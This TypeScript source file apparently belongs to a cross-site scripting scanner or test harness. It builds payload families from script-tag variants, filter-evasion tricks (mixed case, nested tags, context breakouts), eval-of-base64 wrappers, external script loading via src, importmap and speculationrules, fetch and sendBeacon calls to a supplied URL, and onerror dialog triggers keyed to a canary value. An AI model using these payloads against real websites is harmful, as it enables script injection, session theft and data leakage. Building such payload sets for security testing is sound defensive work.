import type { Family, Write } from './family';

const BODIES: readonly Write[] = [
  ({ run }) => run,
  ({ run }) => `/*<!--*/${run}//-->`,
  ({ run }) => `<!--\n${run}\n//-->`,
  ({ run }) => `setTimeout(()=>{${run}})`,
  ({ run }) => `Promise.resolve().then(()=>{${run}})`,
  ({ run }) => `top.opener;{${run}}`,
  ({ run }) => `[].constructor.constructor("${run}")()`,
  ({ went }) => `location='${went}'`,
  ({ run }) => `eval(atob('${btoa(run)}'))`,
  ({ got }) => `fetch('${got}')`,
  ({ got }) => `navigator.sendBeacon('${got}')`,
  ({ got }) => `import('${got}')`,
];

const TAGS: readonly ((body: string) => string)[] = [
  (body) => `<script>${body}</script>`,
  (body) => `<ScRiPt>${body}</sCrIpT>`,
  (body) => `<script\n>${body}</script\n>`,
  (body) => `<script/x>${body}</script>`,
  (body) => `<script type="text/javascript">${body}</script>`,
  (body) => `<script type=module>${body}</script>`,
  (body) => `<script language="JavaScript">${body}`,
  (body) => `"><script>${body}</script>`,
  (body) => `</title></textarea></style></noscript></template><script>${body}</script>`,
];

const LOADED: readonly Write[] = [
  ({ got }) => `<script src="${got}"></script>`,
  ({ got }) => `<script src=${got}>`,
  ({ got }) => `<script src="${got.replace('https:', '')}"></script>`,
  ({ got }) => `<script type=module src="${got}"></script>`,
  ({ got }) => `<script async defer src='${got}'></script>`,
  ({ run }) => `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
  ({ got }) => `<script type=importmap>{"imports":{"a":"${got}"}}</script><script type=module>import "a"</script>`,
  ({ got }) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${got}"]}]}</script>`,
  ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`,
];

export const SCRIPTS: Family = {
  name: 'scripts',
  texts: [
    ...TAGS.flatMap((tag) =>
      BODIES.map(
        (body): Write =>
          (canary) =>
            tag(body(canary)),
      ),
    ),
    ...LOADED,
  ],
};

export const DIALOGS: Family = {
  name: 'dialogs',
  texts: [
    'alert',
    'confirm',
    'prompt',
    'print',
    'window.alert',
    'top.alert',
    'parent.confirm',
    'self["prompt"]',
  ].flatMap((call): Write[] => [
    ({ run }) => `<img src=x: onerror='${call}("${/c\d+/.exec(run)?.[0]}")'>`,
    ({ run }) => `<script>${call}("${/c\d+/.exec(run)?.[0]}")</script>`,
  ]),
};
